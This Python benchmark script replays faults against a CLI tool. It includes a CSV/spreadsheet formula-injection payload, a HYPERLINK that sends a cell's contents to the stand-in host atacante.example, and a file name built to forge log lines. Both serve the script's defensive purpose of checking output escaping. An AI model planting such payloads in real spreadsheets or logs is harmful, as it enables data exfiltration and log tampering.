"""The faults of issue 12 replayed on an archive built here, never seen by the code: what happens to each today.

`python -m bench.fallas`, on its own and not in `make bench`: as root, since it makes a file immutable
(`chattr +i`) and mounts a small tmpfs to fill a disk, and undoes both. The archive is a seeded draw
from the fixture variations of tests/extractor/datos/variaciones (LibreOffice and hand-made Word,
Excel, PDF, ODF, RTF files), each under a new name: Latin-1 bytes, a newline, a formula payload in
full-width characters. Each fault prints one line of what happened, measured (time, rows, exit
status, matches); it prints, it never asserts: the regression tests are the tests.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from rich.console import Console

RAIZ = Path(__file__).resolve().parents[1]
VARIACIONES = RAIZ / "tests" / "extractor" / "datos" / "variaciones"
PLANMEJORA = str(Path(sys.executable).with_name("planmejora"))
CLAVE = "Clave-Secreta-7731"
LIBRE_KB = 240
"""Room left on the small disk: the empty schema fits, a few plans more do not."""
SEMILLA = int(os.environ.get("FALLAS_SEMILLA", "20261204"))


@dataclass(frozen=True, slots=True)
class Corrida:
    codigo: int
    salida: str
    segundos: float


def orden(*argumentos: str, tiempo: float = 300, cwd: Path | None = None) -> Corrida:
    """One `planmejora` command as a user types it, 80 columns wide; a command past `tiempo` counts as hung (124)."""
    entorno = {**os.environ, "COLUMNS": "80", "PLANMEJORA_DB": ""}
    inicio = time.monotonic()
    try:
        hecho = subprocess.run(
            [PLANMEJORA, *argumentos], capture_output=True, text=True, timeout=tiempo, cwd=cwd, env=entorno, check=False
        )
    except subprocess.TimeoutExpired as colgado:
        salida = (colgado.stdout or b"").decode(errors="replace") + (colgado.stderr or b"").decode(errors="replace")
        return Corrida(124, salida, time.monotonic() - inicio)
    return Corrida(hecho.returncode, hecho.stdout + hecho.stderr, time.monotonic() - inicio)


def sorteo(extensiones: Sequence[str], cuantos: int) -> list[Path]:
    """`cuantos` fixture variations of these kinds, drawn with the run's seed."""
    todos = sorted(p for p in VARIACIONES.iterdir() if p.suffix in extensiones)
    return random.Random(SEMILLA + cuantos).sample(todos, cuantos)


def distinto(origen: Path, destino: Path, marca: str) -> Path:
    """A copy of `origen` with its own bytes (a ZIP comment, or a comment after a PDF's end), still readable."""
    datos = origen.read_bytes()
    if origen.suffix == ".pdf" or not zipfile.is_zipfile(origen):
        datos += f"\n%{marca}\n".encode()
    with open(destino, "wb") as archivo:
        archivo.write(datos)
    if origen.suffix != ".pdf" and zipfile.is_zipfile(origen):
        with zipfile.ZipFile(destino, "a") as libro:
            libro.comment = marca.encode()
    return destino


def filas(base: Path, consulta: str) -> list[tuple[object, ...]]:
    with contextlib.closing(sqlite3.connect(f"file:{base}?mode=ro", uri=True)) as conexion:
        return conexion.execute(consulta).fetchall()


@contextlib.contextmanager
def inmutable(ruta: Path) -> Iterator[None]:
    """Not even root may write it (`chattr +i`), for as long as the block lasts."""
    subprocess.run(["chattr", "+i", str(ruta)], check=True)
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(ruta)], check=True)


@contextlib.contextmanager
def disco_pequeno(carpeta: Path, tamano: str) -> Iterator[Path]:
    carpeta.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={tamano}", "tmpfs", str(carpeta)], check=True)
    try:
        yield carpeta
    finally:
        subprocess.run(["umount", "-l", str(carpeta)], check=False)


def mensaje(texto: str, largo: int = 220) -> str:
    """The end of what a command said, its lines joined (rich wraps at 80 columns) and a panel's frame left out."""
    limpias = (linea.strip(" │╭╰─╮╯") for linea in texto.splitlines())
    junto = " ".join(linea for linea in limpias if any(c.isalnum() for c in linea))
    return ("…" + junto[-largo:]) if len(junto) > largo else junto or "(nada)"


# ---------------------------------------------------------------- 1. a file name in Latin-1 bytes


def nombre_latin1(trabajo: Path) -> list[str]:
    carpeta = trabajo / "latin1"
    carpeta.mkdir()
    (origen,) = sorteo([".docx"], 1)
    distinto(origen, carpeta / os.fsdecode(b"Planeaci\xf3n 2024.docx"), "latin1")
    base = trabajo / "latin1.db"
    corrida = orden("vigilar", str(carpeta), "--una-vez", "--mover", "--db", str(base), tiempo=120)
    (corridas,) = filas(base, "SELECT COUNT(*) FROM corridas")[0]
    movido = [os.fsencode(p.name) for p in (carpeta / "procesados").rglob("*.docx")]
    registro = (carpeta / ".planmejora" / "vigilar.log").read_text(encoding="utf-8", errors="replace")
    return [
        f"1. nombre Latin-1 ({origen.name} como b'Planeaci\\xf3n 2024.docx'): vigilar --una-vez --mover terminó "
        f"con {corrida.codigo} en {corrida.segundos:.1f} s, {corridas} corrida(s), movido a procesados/: {movido}, "
        f"«No se pudo mover» {registro.count('No se pudo mover')} veces en vigilar.log"
    ]


# ---------------------------------------------------------------- 2. passwords


def _buscar_clave(trabajo: Path, salidas: dict[str, str]) -> list[str]:
    """Where the password shows: each command's output, and every file written under `trabajo`."""
    vistas = [nombre for nombre, texto in salidas.items() if CLAVE in texto]
    for archivo in trabajo.rglob("*"):
        if not archivo.is_file() or archivo.suffix == ".db":
            continue
        datos = archivo.read_bytes()
        if zipfile.is_zipfile(archivo):
            with zipfile.ZipFile(archivo) as libro:
                datos = b"".join(libro.read(m) for m in libro.namelist())
        if CLAVE.encode() in datos:
            vistas.append(str(archivo.relative_to(trabajo)))
    return vistas


def claves(trabajo: Path) -> list[str]:
    sys.path.insert(0, str(RAIZ))
    from tests.conftest import ServidorPostgres

    carpeta = trabajo / "claves" / "planes"
    carpeta.mkdir(parents=True)
    for n, origen in enumerate(sorteo([".docx", ".xlsx", ".pdf"], 6)):
        distinto(origen, carpeta / f"plan_{n}{origen.suffix}", f"clave {n}")
    servidor = ServidorPostgres.iniciar()
    try:
        anfitrion = f"127.0.0.1:{servidor.puerto}"
        urls = {
            "usuario:clave@": f"postgresql://postgres:{CLAVE}@{anfitrion}/postgres",
            "?password=": f"postgresql://postgres@{anfitrion}/postgres?password={CLAVE}",
        }
        salidas: dict[str, str] = {}
        for forma, url in urls.items():
            salidas[f"ingerir {forma}"] = orden("ingerir", str(carpeta), "--db", url).salida
            salidas[f"calidad {forma}"] = orden("calidad", "--db", url).salida
            for extension in ("html", "xlsx", "csv"):
                destino = trabajo / "claves" / f"calidad_{len(salidas)}.{extension}"
                salidas[f"calidad .{extension} {forma}"] = orden(
                    "calidad", "--db", url, "--salida", str(destino)
                ).salida
            salidas[f"vigilar {forma}"] = orden("vigilar", str(carpeta), "--una-vez", "--db", url).salida
        malas = {
            "puerto malo": f"postgresql://postgres:{CLAVE}@127.0.0.1:99999/postgres",
            "libpq host= password=": f"host=127.0.0.1 port=1 password={CLAVE}",
            "servidor caído": f"postgresql://postgres:{CLAVE}@127.0.0.1:1/postgres",
            "clave con %40": f"postgresql://postgres:{CLAVE}%40x@127.0.0.1:1/postgres",
        }
        codigos = []
        for forma, url in malas.items():
            corrida = orden("ingerir", str(carpeta), "--db", url, tiempo=60)
            salidas[f"ingerir {forma}"] = corrida.salida
            codigos.append(f"{forma}: {corrida.codigo}")
    finally:
        servidor.detener()
    vistas = _buscar_clave(trabajo / "claves", salidas)
    return [
        f"2. claves: {len(salidas)} salidas de orden + los archivos escritos (HTML, XLSX, CSV, vigilar.log): "
        f"la clave aparece en {len(vistas)} {vistas if vistas else ''}".rstrip(),
        f"   URL inservibles, código de salida: {'; '.join(codigos)}",
    ]


# ---------------------------------------------------------------- 3. a file still being written


def _escribir_a_pedazos(destino: Path, datos: bytes, pedazos: int, pausas: Sequence[float]) -> None:
    """A slow writer: open, append, close, pause; like a copy over a slow share or a program saving."""
    tamano = -(-len(datos) // pedazos)
    for n in range(pedazos):
        if n:
            time.sleep(pausas[n % len(pausas)])
        with destino.open("ab") as archivo:
            archivo.write(datos[n * tamano : (n + 1) * tamano])


def a_medio_escribir(trabajo: Path) -> list[str]:
    carpeta = trabajo / "a_medias"
    carpeta.mkdir()
    (origen,) = sorteo([".pdf"], 1)
    datos = origen.read_bytes() + b"\n%a medias\n"
    base = trabajo / "a_medias.db"
    vigilante = subprocess.Popen(
        [PLANMEJORA, "vigilar", str(carpeta), "--espera", "1", "--mover", "--db", str(base), "--sondeo", "0.5"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        time.sleep(3)
        inicio = time.monotonic()
        _escribir_a_pedazos(carpeta / "plan_lento.pdf", datos, 8, [1.0, 2.5])
        escrito = time.monotonic()
        while time.monotonic() - escrito < 120 and not list((carpeta / "procesados").rglob("*.pdf")):
            time.sleep(1)
        cargado = time.monotonic()
    finally:
        vigilante.send_signal(signal.SIGTERM)
        vigilante.wait(60)
    en_errores = sorted(p.name for p in (carpeta / "con_errores").rglob("*") if p.is_file())
    procesados = list((carpeta / "procesados").rglob("*.pdf"))
    completo = bool(procesados) and procesados[0].read_bytes() == datos
    documentos = filas(base, "SELECT estado, actual, COUNT(*) FROM v_documentos GROUP BY estado, actual")
    return [
        f"3. escrito a pedazos ({origen.name}, 8 pedazos en {escrito - inicio:.0f} s, pausas de 1 y 2,5 s "
        f"> --espera 1): procesados/ tiene el archivo completo: {completo} ({cargado - escrito:.0f} s después "
        "de la última escritura); "
        f"con_errores/: {en_errores or 'vacío'}; documentos (estado, actual, cuántos): {documentos}"
    ]


# ---------------------------------------------------------------- 4. a file replaced while it is read


def reemplazados(trabajo: Path) -> list[str]:
    carpeta = trabajo / "reemplazos"
    carpeta.mkdir()
    versiones = sorteo([".docx", ".xlsx"], 8)
    huellas: dict[str, Path] = {}
    rutas = [carpeta / f"plan_{n:03}.docx" for n in range(60)]

    def escribir(ruta: Path, vuelta: int) -> None:
        origen = versiones[(rutas.index(ruta) + vuelta) % len(versiones)]
        destino = ruta.with_suffix(origen.suffix)
        provisional = destino.with_name(f".{destino.name}.tmp")
        distinto(origen, provisional, f"{ruta.name} {vuelta}")
        huellas[hashlib.sha256(provisional.read_bytes()).hexdigest()] = origen
        provisional.replace(destino)

    for ruta in rutas:
        escribir(ruta, 0)
    parar = threading.Event()

    def reemplazar() -> None:
        vuelta = 1
        while not parar.is_set():
            for ruta in rutas:
                escribir(ruta, vuelta)
            vuelta += 1

    base = trabajo / "reemplazos.db"
    hilo = threading.Thread(target=reemplazar)
    hilo.start()
    try:
        corrida = orden("ingerir", str(carpeta), "--db", str(base), "--workers", "2")
    finally:
        parar.set()
        hilo.join()
    return [_cotejar_huellas(base, huellas, corrida)]


def _cotejar_huellas(base: Path, huellas: dict[str, Path], corrida: Corrida) -> str:
    """Each stored document against the file whose bytes have its sha256: same format and number of findings?"""
    documentos = filas(
        base,
        "SELECT d.sha256, d.formato, COUNT(h.hallazgo_id) FROM v_documentos d "
        "LEFT JOIN v_hallazgos_historia h ON h.documento_id = d.documento_id WHERE d.estado = 'ok' GROUP BY 1, 2",
    )
    esperados = {v: _hallazgos_sin_carrera(v) for v in set(huellas.values())}
    ajenos = [s for s, formato, n in documentos if (o := huellas.get(str(s))) is None or o.suffix[1:] != formato]
    contados = [s for s, _, n in documentos if (o := huellas.get(str(s))) is not None and esperados[o] != n]
    errores = filas(base, "SELECT COUNT(*) FROM documentos WHERE estado = 'error'")[0][0]
    return (
        f"4. reemplazados mientras se leen (60 rutas, cada una reescrita sin parar durante ingerir --workers 2, "
        f"{corrida.segundos:.0f} s): {len(documentos)} guardados bien, {errores} con error; bajo una huella ajena o de "
        f"otro formato: {len(ajenos)}; con otro número de hallazgos que el archivo de esa huella: {len(contados)}"
    )


def _hallazgos_sin_carrera(origen: Path) -> int:
    """What the same code reads from the variation file itself, which nobody replaces."""
    from planmejora.api import extraer_archivo

    return sum(len(plan.hallazgos) for plan in extraer_archivo(origen))


# ---------------------------------------------------------------- 5. messages and exit codes


def _cargada(trabajo: Path, nombre: str, cuantos: int = 3) -> tuple[Path, Path]:
    """A folder of a few new copies, and a SQLite database already holding them (no -wal left behind)."""
    carpeta = trabajo / nombre
    carpeta.mkdir()
    for n, origen in enumerate(sorteo([".docx", ".xlsx"], cuantos)):
        distinto(origen, carpeta / f"{nombre}_{n}{origen.suffix}", f"{nombre} {n}")
    base = trabajo / f"{nombre}.db"
    orden("ingerir", str(carpeta), "--db", str(base))
    return carpeta, base


def base_de_solo_lectura(trabajo: Path) -> list[str]:
    _, base = _cargada(trabajo, "solo_lectura")
    nuevos = trabajo / "solo_lectura_nuevos"
    nuevos.mkdir()
    (origen,) = sorteo([".pdf"], 1)
    distinto(origen, nuevos / "nuevo.pdf", "solo lectura")
    with inmutable(base):
        ingerir = orden("ingerir", str(nuevos), "--db", str(base), tiempo=120)
        vigilar = orden("vigilar", str(nuevos), "--una-vez", "--db", str(base), tiempo=300)
    with inmutable(trabajo):
        calidad = orden("calidad", "--db", str(base), "--salida", str(Path(tempfile.gettempdir()) / "fallas.csv"))
    return [
        f"5a. base de solo lectura (chattr +i): ingerir salió con {ingerir.codigo} en {ingerir.segundos:.1f} s: "
        f"«{mensaje(ingerir.salida)}»",
        f"5b. vigilar --una-vez sobre ella: salió con {vigilar.codigo} en {vigilar.segundos:.1f} s",
        f"5c. calidad de una base en una carpeta de solo lectura: salió con {calidad.codigo} "
        f"({calidad.segundos:.1f} s): «{mensaje(calidad.salida)}»",
    ]


def disco_lleno(trabajo: Path) -> list[str]:
    carpeta = trabajo / "disco_lleno"
    carpeta.mkdir()
    for n, origen in enumerate(sorteo([".docx", ".xlsx"], 16)):
        distinto(origen, carpeta / f"lleno_{n:02}{origen.suffix}", f"lleno {n}")
    with disco_pequeno(trabajo / "disco", "1m") as disco:
        (disco / "relleno").write_bytes(b"\0" * (1024 - LIBRE_KB) * 1024)
        corrida = orden("ingerir", str(carpeta), "--db", str(disco / "planes.db"), tiempo=300)
        guardados = filas(disco / "planes.db", "SELECT COUNT(*) FROM documentos")[0][0]
    return [
        f"5d. disco lleno ({LIBRE_KB} kB libres, 16 archivos): ingerir salió con {corrida.codigo} en "
        f"{corrida.segundos:.1f} s con {guardados} documentos guardados: «{mensaje(corrida.salida)}»"
    ]


def mover_que_falla(trabajo: Path) -> list[str]:
    carpeta = trabajo / "mover"
    carpeta.mkdir()
    for n, origen in enumerate(sorteo([".docx"], 2)):
        distinto(origen, carpeta / f"mover_{n}.docx", f"mover {n}")
    (carpeta / "procesados").write_text("un archivo donde iría la carpeta procesados/\n")
    corrida = orden("vigilar", str(carpeta), "--una-vez", "--mover", "--db", str(trabajo / "mover.db"), tiempo=120)
    return [
        f"5e. vigilar --una-vez --mover sin poder mover (procesados es un archivo): salió con {corrida.codigo}: "
        f"«{mensaje(corrida.salida)}»"
    ]


def salto_de_linea(trabajo: Path) -> list[str]:
    carpeta = trabajo / "salto"
    carpeta.mkdir()
    (origen,) = sorteo([".docx"], 1)
    falso = "2026-12-04 03:00:00 INFO Cargado: todo_en_orden.docx"
    distinto(origen, carpeta / f"plan\n{falso}\n.docx", "salto")
    registro = trabajo / "salto.log"
    orden("vigilar", str(carpeta), "--una-vez", "--db", str(trabajo / "salto.db"), "--log", str(registro))
    lineas = registro.read_text(encoding="utf-8").splitlines()
    forjadas = [linea for linea in lineas if linea.startswith(falso[:19])]
    return [f"5f. salto de línea en el nombre: {len(lineas)} líneas en vigilar.log, {len(forjadas)} forjadas"]


def formula_ancho_completo(trabajo: Path) -> list[str]:
    from openpyxl import load_workbook

    carpeta = trabajo / "formulas"
    carpeta.mkdir()
    (origen,) = sorteo([".xlsx"], 1)
    libro = load_workbook(origen)
    carga = '＝HYPERLINK("http://atacante.example/?"&A1;"clic")'
    puestas = 0
    for hoja in libro.worksheets:
        for fila in hoja.iter_rows():
            for celda in fila:
                if isinstance(celda.value, str) and len(celda.value) > 40 and puestas < 3:
                    celda.value = ("＋", "－", "＠")[puestas] + carga[1:] if puestas else carga
                    puestas += 1
    libro.save(carpeta / "formulas.xlsx")
    base = trabajo / "formulas.db"
    orden("ingerir", str(carpeta), "--db", str(base))
    salidas = {
        "consolidado.csv": orden("exportar", "consolidado", "--db", str(base), "--salida", str(trabajo / "c.csv")),
        "consolidado.xlsx": orden("exportar", "consolidado", "--db", str(base), "--salida", str(trabajo / "c.xlsx")),
        "calidad.csv": orden("calidad", "--db", str(base), "--salida", str(trabajo / "q.csv")),
    }
    presentes, crudas = _celdas_peligrosas([trabajo / "c.csv", trabajo / "c.xlsx", trabajo / "q.csv"])
    codigos = ", ".join(f"{n} {c.codigo}" for n, c in salidas.items())
    return [
        f"5g. {puestas} celdas con ＝ ＋ － ＠ HYPERLINK en {origen.name}: salidas ({codigos}); "
        f"{presentes} celdas de salida las llevan, {crudas} sin escapar"
    ]


def _celdas_peligrosas(archivos: Sequence[Path]) -> tuple[int, int]:
    """Cells whose text starts, as NFKC folds it, with a formula sign and no apostrophe before it."""
    import csv
    import unicodedata

    from openpyxl import load_workbook

    textos: list[str] = []
    for archivo in archivos:
        if not archivo.exists():
            continue
        if archivo.suffix == ".csv":
            with archivo.open(encoding="utf-8-sig", newline="") as tabla:
                textos += [c for fila in csv.reader(tabla) for c in fila]
        else:
            for hoja in load_workbook(archivo).worksheets:
                textos += [str(c.value) for fila in hoja.iter_rows() for c in fila if isinstance(c.value, str)]
    plegados = [unicodedata.normalize("NFKC", t).lstrip() for t in textos if "HYPERLINK" in t]
    return len(plegados), sum(1 for t in plegados if t[:1] in ("=", "+", "-", "@"))


# ---------------------------------------------------------------- 6. a new user's path


def usuario_nuevo(trabajo: Path) -> list[str]:
    vacia = trabajo / "vacia"
    vacia.mkdir()
    carpeta, base = _cargada(trabajo, "nuevo")
    plano = orden("ingerir", str(carpeta), "--db", "planes.db", cwd=trabajo)
    ninguna = orden("calidad", "--db", str(base), "--dependencia", "Nada")
    sin_planes = orden("ingerir", str(vacia), "--db", str(base))
    lineas = [
        f"6a. ingerir de una carpeta sin planes: {sin_planes.codigo}, «{mensaje(sin_planes.salida)}»",
        f"6b. calidad --dependencia Nada: «{mensaje(ninguna.salida)}»",
        f"6c. --db planes.db (ruta simple): salió con {plano.codigo}; creado: {(trabajo / 'planes.db').exists()}",
        f"6d. extraer /no/existe.pdf: {orden('extraer', '/no/existe.pdf').codigo}; "
        f"ingerir /no/existe: {orden('ingerir', '/no/existe', '--db', str(base)).codigo}",
        f"6e. orden mal escrita: «{mensaje(orden('ingerri').salida)}»",
    ]
    ayudas = [orden(*o, "--help").salida for o in (["ingerir"], ["extraer"], ["vigilar"], ["calidad"])]
    tipos = sum(a.count("<list[") + a.count("<Path") + a.count("Usage:") for a in ayudas)
    listado = orden("extraer", *[str(p) for p in sorted(carpeta.iterdir())]).salida.splitlines()
    pista = [linea for linea in orden("calidad", "--db", str(base)).salida.splitlines() if "--salida" in linea]
    lineas += [
        f"6f. --help de 4 órdenes: {tipos} tipos de Python o textos en inglés",
        f"6g. extraer sin --json: {len(listado)} líneas, la más larga de {max(map(len, listado), default=0)} columnas",
        f"6h. pista de la terminal de calidad --db: «{pista[0].strip() if pista else '(ninguna)'}»",
    ]
    return lineas


def escaneo_y_digital(trabajo: Path) -> list[str]:
    """The demo's tie: a scan and a digital copy of one plan, same modification time, the scan loaded last."""
    carpeta = trabajo / "empate"
    carpeta.mkdir()
    muestras = RAIZ / "muestras"
    copias = [shutil.copy2(muestras / n, carpeta / n) for n in ("tamboral_2022.docx", "escaneado_tamboral_2022.pdf")]
    for copia in copias:
        os.utime(copia, ns=(1_700_000_000 * 10**9,) * 2)
    base = trabajo / "empate.db"
    for copia in copias:
        orden("ingerir", str(copia), "--db", str(base))
    actual = filas(base, "SELECT archivo FROM v_versiones WHERE actual")
    return [f"6i. escaneo y copia digital con la misma fecha, el escaneo cargado después: la actual es {actual}"]


# ---------------------------------------------------------------- the run

PASOS: tuple[Callable[[Path], list[str]], ...] = (
    nombre_latin1,
    claves,
    a_medio_escribir,
    reemplazados,
    base_de_solo_lectura,
    disco_lleno,
    mover_que_falla,
    salto_de_linea,
    formula_ancho_completo,
    usuario_nuevo,
    escaneo_y_digital,
)


def correr(consola: Console) -> None:
    if os.geteuid() != 0:
        consola.print("Las fallas se reproducen como root (chattr +i, mount tmpfs): no se midió nada.")
        return
    consola.print(f"Semilla del sorteo de archivos: {SEMILLA} (FALLAS_SEMILLA para otro archivo)")
    for paso in PASOS:
        with tempfile.TemporaryDirectory(prefix="planmejora-fallas-") as carpeta:
            try:
                for linea in paso(Path(carpeta)):
                    consola.print(linea, markup=False, highlight=False, soft_wrap=True)
            except Exception as error:  # a step that cannot run says why; the others still run
                consola.print(f"{paso.__name__}: no se pudo medir ({type(error).__name__}: {error})")


if __name__ == "__main__":
    correr(Console())
